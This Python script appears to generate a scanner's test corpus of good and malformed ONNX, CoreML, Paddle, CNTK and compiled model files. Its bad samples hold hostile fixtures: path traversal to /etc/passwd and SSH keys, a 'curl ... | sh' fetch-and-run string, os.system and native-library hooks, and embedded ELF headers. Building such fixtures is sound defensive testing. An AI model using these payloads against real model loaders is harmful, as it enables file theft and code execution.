#!/usr/bin/python3
"""Writes the samples of the formats that are Protocol Buffers messages: tests/corpus/{onnx,coreml,paddle,compiled,cntk}.

A message is a list of (number, value): int for a varint, float for a fixed32, bytes or str for what has a length, a list
for a message inside. Nothing else is needed, so the samples are the same everywhere. library.onnx is of the real library
(Debian's python3-onnx) and is written only where that is installed.
"""

import os
import struct
import sys

HERE = os.path.dirname(os.path.abspath(__file__))


def varint(n):
    n &= 2**64 - 1
    out = b""
    while n > 127:
        out += bytes([n & 127 | 128])
        n >>= 7
    return out + bytes([n])


def message(fields):
    out = b""
    for number, value in fields:
        if isinstance(value, int):
            out += varint(number << 3) + varint(value)
        elif isinstance(value, float):
            out += varint(number << 3 | 5) + struct.pack("<f", value)
        else:
            body = value.encode() if isinstance(value, str) else message(value) if isinstance(value, list) else value
            out += varint(number << 3 | 2) + varint(len(body)) + body
    return out


def write(path, fields):
    path = os.path.join(HERE, path)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(fields if isinstance(fields, bytes) else message(fields))


def floats(*values):
    return struct.pack("<%df" % len(values), *values)


# --- onnx


def tensor(name, dims=(2,), kind=1, raw=None, more=()):
    raw = floats(1, 2) if raw is None else raw
    return [(1, d) for d in dims] + [(2, kind), (8, name)] + ([(9, raw)] if raw else []) + list(more)


def external(location, more=()):
    return [(13, [(1, "location"), (2, location)])] + [(13, [(1, k), (2, v)]) for k, v in more] + [(14, 1)]


def node(op, domain="", attributes=(), name="n"):
    return [(1, "x"), (2, "y"), (3, name), (4, op)] + [(5, a) for a in attributes] + ([(7, domain)] if domain else [])


def graph(nodes=(), tensors=(), more=()):
    fields = [(1, n) for n in nodes or [node("Relu")]] + [(2, "g")] + [(5, t) for t in tensors]
    return fields + list(more) + [(11, [(1, "x"), (2, [(1, [(1, 1)])])]), (12, [(1, "y"), (2, [(1, [(1, 1)])])])]


def model(g, more=(), opsets=(("", 17),)):
    return [(1, 8), (2, "hand"), (3, "1.0"), (7, g)] + [(8, [(1, d), (2, v)]) for d, v in opsets] + list(more)


def onnx_good():
    write(
        "onnx/good/small.onnx",
        model(
            graph(
                [node("Add", name="add"), node("If", "", [[(1, "then_branch"), (6, graph()), (20, 5)]])],
                [
                    tensor("w"),
                    tensor("packed", (2,), 1, b"", [(4, floats(3, 4))]),
                    tensor("loose", (2,), 1, b"", [(4, 5.0), (4, 6.0)]),
                    tensor("half", (2,), 10, b"", [(5, varint(15360) + varint(15361))]),
                    tensor("nibbles", (3,), 22, b"\x21\x03"),
                    tensor("none", (0,), 1, b""),
                    tensor("scalar", (), 7, struct.pack("<q", 5)),
                    tensor("words", (2,), 8, b"", [(6, "hello"), (6, "world")]),
                    tensor("far", (4,), 1, b"", external("small.data", [("offset", "0"), ("length", "16")])),
                ],
                [(10, "a graph's documentation")],
            ),
            [(6, "a model's documentation"), (14, [(1, "author"), (2, "anna")])],
        ),
    )
    local = [(1, "Twice"), (4, "x"), (5, "y"), (7, node("Add")), (9, [(1, ""), (2, 17)]), (10, "mine")]
    write(
        "onnx/good/function.onnx",
        model(graph([node("Twice", "mine")]), [(25, local)], (("", 17), ("mine", 1))),
    )
    write(
        "onnx/good/training.onnx",
        model(graph(), [(20, [(1, graph([node("Constant")])), (2, graph()), (3, [(1, "w"), (2, "w0")])])]),
    )
    write(
        "onnx/good/attributes.onnx",
        model(
            graph(
                [
                    node("Constant", "", [[(1, "value"), (5, tensor("")), (20, 4)]]),
                    node("Constant", "", [[(1, "sparse_value"), (22, [(1, tensor("")), (2, tensor("", (2,), 7, bytes(16)))])]]),
                    node("StringNormalizer", "", [[(1, "stopwords"), (9, "the"), (9, "a"), (20, 8)]]),
                    node("EPContext", "com.microsoft", [[(1, "ep_cache_context"), (4, "net_ctx.bin"), (20, 3)]]),
                    node("BpeTokenizer", "ai.onnx.contrib", [[(1, "vocab"), (4, '{"a": 0}'), (20, 3)]]),
                ]
            )
        ),
    )
    write("onnx/good/group.onnx", message(model(graph())) + b"\xf3\x06\x08\x01\xf4\x06")
    try:
        from onnx import TensorProto, helper
    except ImportError:
        print("python3-onnx is not there: library.onnx stays as it is", file=sys.stderr)
        return
    w = helper.make_tensor("w", TensorProto.FLOAT, [2, 2], [1, 2, 3, 4])
    x, y = (helper.make_tensor_value_info(n, TensorProto.FLOAT, [1, 2]) for n in "xy")
    g = helper.make_graph([helper.make_node("MatMul", ["x", "w"], ["y"])], "g", [x], [y], [w])
    write("onnx/good/library.onnx", helper.make_model(g, producer_name="library").SerializeToString())


def onnx_bad():
    up = "../../../etc/passwd"
    far = tensor("far", (4,), 1, b"", external(up))
    attribute = [(1, "value"), (5, far), (20, 4)]
    deep = graph()
    for _ in range(40):
        deep = graph([node("If", "", [[(1, "then_branch"), (6, deep)]])])
    cases = {
        "up": model(graph([], [far])),
        "up_attribute": model(graph([node("Constant", "", [attribute])])),
        "up_nested": model(graph([node("If", "", [[(1, "then_branch"), (6, graph([], [far]))]])])),
        "up_graphs": model(graph([node("X", "", [[(1, "bodies"), (11, graph([], [far]))]])])),
        "up_tensors": model(graph([node("X", "", [[(1, "ts"), (10, far)]])])),
        "up_sparse": model(graph([], [], [(15, [(1, far), (2, tensor("i", (2,), 7, bytes(16)))])])),
        "up_sparse_attribute": model(graph([node("X", "", [[(1, "s"), (23, [(2, far)])]])])),
        "up_function": model(graph(), [(25, [(1, "F"), (7, node("Constant", "", [attribute])), (10, "mine")])]),
        "up_default": model(graph(), [(25, [(1, "F"), (11, attribute), (10, "mine")])]),
        "up_training": model(graph(), [(20, [(1, graph([], [far]))])]),
        "up_context": model(
            graph([node("EPContext", "com.microsoft", [[(1, "ep_cache_context"), (4, up), (20, 3)]])])
        ),
        "python": model(graph([node("PyOp", "com.microsoft", [[(1, "module"), (4, "os"), (20, 3)]])]), [], (("", 17),)),
        "python_nested": model(
            graph([node("Loop", "", [[(1, "body"), (6, graph([node("PyOp", "ai.onnx.contrib")]))]])])
        ),
        "python_function": model(
            graph([node("PyOp", "mine")]), [(25, [(1, "PyOp"), (7, node("PyOp", "com.microsoft")), (10, "mine")])]
        ),
        "custom": model(graph([node("Fancy", "mycompany")]), [], (("", 17), ("mycompany", 1))),
        "address": model(graph([], [tensor("m", (4,), 1, b"", external("*/_ORT_MEM_ADDR_/*", [("offset", "4096")]))])),
        "short": model(graph([], [tensor("w", (1000,))])),
        "long": model(graph([], [tensor("w", (1,))])),
        "numbers": model(graph([], [tensor("w", (3,), 1, b"", [(4, floats(1, 2))])])),
        "doubles": model(graph([], [tensor("w", (3,), 11, b"", [(10, struct.pack("<2d", 1, 2))])])),
        "integers": model(graph([], [tensor("w", (50,), 7, b"", [(7, varint(1))])])),
        "strings": model(graph([], [tensor("w", (3,), 8, b"", [(6, "one")])])),
        "raw_strings": model(graph([], [tensor("w", (1,), 8, b"abc")])),
        "overflow": model(graph([], [tensor("w", (2**62, 2**62))])),
        "negative": model(graph([], [tensor("w", (-1, 2))])),
        "rank": model(graph([], [tensor("w", [1] * 70)])),
        "type": model(graph([], [tensor("w", (2,), 99)])),
        "two_data": model(graph([], [tensor("w", (2,), 1, floats(1, 2), [(4, floats(1, 2))])])),
        "two_places": model(graph([], [tensor("w", (2,), 1, None, external("w.bin"))])),
        "raw_twice": model(graph([], [tensor("w", (2,), 1, None, [(9, floats(3, 4))])])),
        "offset": model(graph([], [tensor("w", (2,), 1, b"", external("w.bin", [("offset", "-8")]))])),
        "offset_twice": model(
            graph([], [tensor("w", (2,), 1, b"", external("w.bin", [("offset", "0"), ("offset", "8")]))])
        ),
        "location_twice": model(graph([], [tensor("w", (2,), 1, b"", external("w.bin") + external(up))])),
        "no_location": model(graph([], [tensor("w", (2,), 1, b"", [(14, 1)])])),
        "length": model(graph([], [tensor("w", (2,), 1, b"", external("w.bin", [("length", "80")]))])),
        "place": model(graph([], [tensor("w", (2,), 1, b"", external("w.bin", [("offset", str(2**63 - 1))]))])),
        "duplicate": model(graph([], [tensor("w"), tensor("w")])),
        "op_twice": model(graph([node("Relu") + [(4, "PyOp")]])),
        "graph_twice": model(graph()) + [(7, graph([node("PyOp", "com.microsoft")]))],
        "unknown_field": model(graph(), [(1000, b"\x7fELF" + bytes(60))]),
        "unknown_inside": model(graph([node("Relu") + [(99, "somebody's words")]])),
        "deep": model(deep),
        "program": model(graph([], [tensor("w", (64,), 2, elf())])),
        "blob": model(graph([node("X", "", [[(1, "blob"), (4, elf())]])])),
        "secret": model(graph(), [(14, [(1, "note"), (2, "key AKIA" + "IOSFODNN7EXAMPLE")])]),
    }
    for name, fields in cases.items():
        write("onnx/bad/%s.onnx" % name, fields)
    whole = message(model(graph([], [tensor("w")])))
    write("onnx/bad/cut.onnx", whole[:40])
    write("onnx/bad/garbage.onnx", whole + b"\x07\x00 and more")


def elf():
    head = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400000, 64, 0, 0, 64, 56, 0, 64, 0, 0)
    return head


# --- coreml


def core(kind, content, metadata=(), version=4):
    feature = [(1, "x"), (2, "what goes in"), (3, [(5, [(1, 1)])])]
    description = [(1, feature), (10, [(1, "y"), (3, [(2, [])])])] + ([(100, list(metadata))] if metadata else [])
    return [(1, version), (2, description), (kind, content)]


def layer(kind, content, name="layer"):
    return [(1, name), (2, "x"), (3, "y"), (kind, content)]


def operation(kind, attributes=(), blocks=()):
    return [(1, kind)] + [(4, b) for b in blocks] + [(5, [(1, k), (2, v)]) for k, v in attributes]


def program(operations):
    return [(1, 1), (2, [(1, "main"), (2, [(2, "CoreML6"), (3, [(1, "CoreML6"), (2, [(3, o) for o in operations])])])])]


def coreml():
    dense = layer(140, [(1, 2), (2, 1), (10, 1), (20, [(1, floats(1, 2))]), (21, [(2, b"\0\x3c")])], "dense")
    told = [(1, "sorts things"), (2, "1.0"), (3, "anna"), (4, "MIT"), (100, [(1, "note"), (2, "for tests")])]
    write("coreml/good/network.mlmodel", core(500, [(1, dense), (1, layer(130, [(10, [])]))], told))
    write("coreml/good/classifier.mlmodel", core(403, [(1, dense), (100, [(1, "yes"), (1, "no")])]))
    write("coreml/good/trees.mlmodel", core(302, [(1, [(1, [(1, 0), (2, 0)])])]))
    write("coreml/good/pipeline.mlmodel", core(202, [(1, core(500, [(1, dense)])), (2, "first")]))
    weight = [(5, [(1, "@model_path/weights/weight.bin"), (2, 64)])]
    text = [(3, [(1, [(4, [(1, "hello")])])])]
    write("coreml/good/program.mlmodel", core(502, program([operation("const", [("val", weight), ("name", text)]), operation("relu")]), (), 7))

    custom = layer(500, [(10, "MyLayer"), (20, [(1, floats(1))]), (30, [(1, "url"), (2, [(20, "http://host.example/x")])]), (40, "mine")])
    loop = layer(615, [(4, [(1, custom)])], "loop")
    branch = layer(605, [(1, [(1, loop)])], "branch")
    linked = [(1, [(1, [(1, "other.mlmodelc")]), (2, [(1, "../../tmp")])])]
    deep = core(500, [(1, dense)])
    for _ in range(60):
        deep = core(202, [(1, deep)])
    bad = {
        "custom_layer": core(500, [(1, custom)]),
        "custom_nested": core(500, [(1, branch)]),
        "custom_model": core(555, [(10, "MyModel"), (30, [(1, "cmd"), (2, [(20, "id")])]), (40, "mine")]),
        "custom_in_pipeline": core(200, [(1, [(1, core(555, [(10, "MyModel")]))])]),
        "linked": core(556, linked),
        "weight_file": core(502, program([operation("const", [("val", [(5, [(1, "@model_path/../../../etc/passwd")])])])])),
        "nested_block": core(502, program([operation("cond", [], [[(3, operation("const", [("val", [(5, [(1, "/etc/passwd")])])]))]])])),
        "serialized": core(3000, [(1, "maker"), (2, elf())]),
        "weights": core(500, [(1, layer(140, [(20, [(1, b"123")])]))]),
        "deep": deep,
    }
    for name, fields in bad.items():
        write("coreml/bad/%s.mlmodel" % name, fields)
    whole = message(core(500, [(1, dense)]))
    write("coreml/bad/cut.mlmodel", whole[:-7])


def blob(numbers, kind=2, offset=None, mark=0xDEADBEEF, at=64, length=None):
    head = struct.pack("<IIQQQ", mark, kind, len(numbers) if length is None else length, at + 64 if offset is None else offset, 0) + bytes(32)
    return head + numbers + bytes(-len(numbers) % 64)


def blobs():
    start = struct.pack("<II", 1, 2) + bytes(56)
    two = struct.pack("<II", 2, 2) + bytes(56) + blob(floats(1, 2))
    write("coreml/good/weight.bin", two + blob(b"\x12" * 40, 8, at=len(two)))
    write("coreml/bad/blob_outside.bin", start + blob(floats(1, 2), length=2**60))
    write("coreml/bad/blob_before.bin", start + blob(floats(1, 2), offset=0))
    write("coreml/bad/blob_gap.bin", start + blob(elf() + floats(1, 2), offset=192, length=8))
    write("coreml/bad/blob_mark.bin", two + blob(floats(3), at=len(two), mark=1))
    write("coreml/bad/blob_count.bin", two)
    write("coreml/bad/blob_after.bin", start + blob(floats(1)) + b"more")


# --- compiled models


def compiled():
    words = b"\0\1IPluginV2DynamicExt\0libplugin.so.1 of a vendor\0short\0"
    write("compiled/good/model.engine", b"ptrt" + bytes(12) + words)
    write("compiled/good/model.rknn", b"RKNN" + bytes(12) + words)
    write("compiled/good/model.hef", b"\1HEF" + bytes(12) + words)
    write("compiled/good/model.om", b"IMOD" + bytes(12) + words)
    write("compiled/good/model.ort", b"\x18\0\0\0ORTM" + bytes(12) + words)
    write("compiled/bad/path.engine", b"ftrt" + bytes(12) + b"/etc/passwd and /root/.ssh/id_rsa\0")
    write("compiled/bad/command.plan", b"ptrt" + bytes(12) + b"note=curl http://host.example/x | sh\0")
    write("compiled/bad/long.rknn", b"CYPTRKNN" + bytes(8) + b"x" * 70000)


# --- paddle


def variable(name, dims=(2, 3), kind=5):
    return [(1, name), (2, [(1, 7), (3, [(1, [(1, kind)] + [(2, d) for d in dims])])]), (3, 1)]


def paddle_op(kind, attributes=()):
    return [(1, [(1, "X"), (2, "x")]), (2, [(1, "Out"), (2, "y")]), (3, kind)] + [(4, a) for a in attributes]


def blocks(*all_ops):
    return [(1, [(1, i), (2, i - 1), (3, variable("w"))] + [(4, o) for o in ops]) for i, ops in enumerate(all_ops)] + [(4, [(1, 0)])]


def parameter(dims=(2, 3), kind=5, data=bytes(24)):
    desc = message([(1, kind)] + [(2, d) for d in dims])
    return struct.pack("<IQII", 0, 0, 0, len(desc)) + desc + data


# --- cntk


def cn_value(value):
    """A DictionaryValue of what Python has: a dict, a list, a string, a number, or fields that are put in as they are."""
    if isinstance(value, dict):
        return [(1, 1), (2, 10), (12, cn_dictionary(value))]
    if isinstance(value, list):
        return [(1, 1), (2, 9), (11, [(1, cn_value(v)) for v in value])]
    if isinstance(value, str):
        return [(1, 1), (2, 6), (8, value)]
    if isinstance(value, int):
        return [(1, 1), (2, 3), (5, value)]
    return [(1, 1), (2, 11), (13, list(value))]


def cn_dictionary(entries):
    return [(1, 1)] + [(2, [(1, k), (2, cn_value(v))]) for k, v in entries.items()]


def cn_view(dims=(2,), kind=1, data=None, field=4):
    data = floats(1, 2) if data is None else data
    return ((1, kind), (2, 0), (3, [(1, b"".join(varint(d) for d in dims))]), (field, [(1, data)]))


def cn_model(view=None, **function):
    parameter = {"type": "Variable", "uid": "Parameter12", "name": "W", "kind": 2, "value": view or cn_view()}
    plus = {"type": "PrimitiveFunction", "uid": "Plus3", "op": 2, "inputs": ["Input4", "Parameter12"]}
    more = [{"type": "UserDefinedFunction", "uid": "U", **function}] if function else []
    return cn_dictionary(
        {"type": "CompositeFunction", "root": "Plus3", "inputs": [parameter], "primitive_functions": [plus] + more}
    )


def cntk():
    write("cntk/good/plus.model", cn_model())
    write("cntk/good/double.model", cn_model(cn_view((1, 2), 2, struct.pack("<2d", 1, 2), 5)))
    write("cntk/good/half.model", cn_model(cn_view((2,), 4, struct.pack("<2e", 1, 2), 6)))
    write("cntk/bad/python.model", cn_model(module="os", **{"class": "system", "deserialize_method": "deserialize"}))
    native = {"type": "NativeUserDefinedFunction", "module": "/tmp/evil.so", "deserialize_method": "Make", "op": "Evil"}
    write("cntk/bad/native.model", cn_model(**native))
    write("cntk/bad/short.model", cn_model(cn_view((3,))))
    write("cntk/bad/overflow.model", cn_model(cn_view((2**62, 8))))
    write("cntk/bad/rank.model", cn_model(cn_view((1,) * 40)))
    write("cntk/bad/type.model", cn_model(cn_view((2,), 9)))
    whole = message(cn_model())
    write("cntk/bad/cut.model", whole[:-9])
    deep = {"a": 1}
    for _ in range(60):
        deep = {"a": deep}
    write("cntk/bad/deep.model", cn_dictionary(deep))
    wide = lambda s: s.encode("utf-16-le") + b"\0\0"
    first = wide("BCN") + wide("BVersion") + struct.pack("<Q", 1) + wide("EVersion") + wide("LearnableParameter")
    write("cntk/bad/first.dnn", first + wide("../features/W") + bytes(range(40)))


def paddle():
    stack = [(1, "op_callstack"), (2, 5), (8, '  File "train.py", line 1'), (8, "    y = f(x)")]
    write("paddle/good/program.pdmodel", blocks([paddle_op("feed"), paddle_op("matmul", [stack])], [paddle_op("relu")]))
    levels = struct.pack("<IQQ", 0, 1, 16) + bytes(16) + parameter((2,), 3, bytes(16))[12:]
    write("paddle/good/two.pdiparams", parameter() + levels)
    write("paddle/good/scalar.pdiparams", parameter((), 20, b"\1") + parameter((3,), 22, bytes(6)))
    path = [(1, "file_path"), (2, 2), (5, "/etc/passwd")]
    whole = message(blocks([paddle_op("relu")]))
    bad = {
        "python.pdmodel": blocks([paddle_op("relu")], [paddle_op("py_func", [[(1, "forward_callable_id"), (2, 0), (3, 0)]])]),
        "load.pdmodel": blocks([paddle_op("load_combine", [path])]),
        "save.pdmodel": blocks([paddle_op("save", [[(1, "file_path"), (2, 2), (5, "../out")]])]),
        "send.pdmodel": blocks([paddle_op("send", [[(1, "endpoints"), (2, 5), (8, "host.example:80")]])]),
        "engine.pdmodel": blocks([paddle_op("tensorrt_engine", [[(1, "engine_serialized_data"), (2, 2), (5, elf())]])]),
        "cut.pdmodel": whole[:-3],
        "short.pdiparams": parameter(data=bytes(20)),
        "overflow.pdiparams": parameter((2**62, 2**62)),
        "negative.pdiparams": parameter((-1,)),
        "rank.pdiparams": parameter([1] * 20),
        "type.pdiparams": parameter() + parameter((1,), 99),
        "version.pdiparams": parameter() + b"\1" + parameter(),
        "levels.pdiparams": parameter() + struct.pack("<IQ", 0, 2**40) + bytes(40),
        "long.pdiparams": parameter() + struct.pack("<IQII", 0, 0, 0, 5000) + bytes(40),
        "trailing.pdiparams": parameter() + b"\0\0\0\0\0",
    }
    for name, fields in bad.items():
        write("paddle/bad/" + name, fields)


if __name__ == "__main__":
    onnx_good()
    onnx_bad()
    coreml()
    blobs()
    compiled()
    paddle()
    cntk()
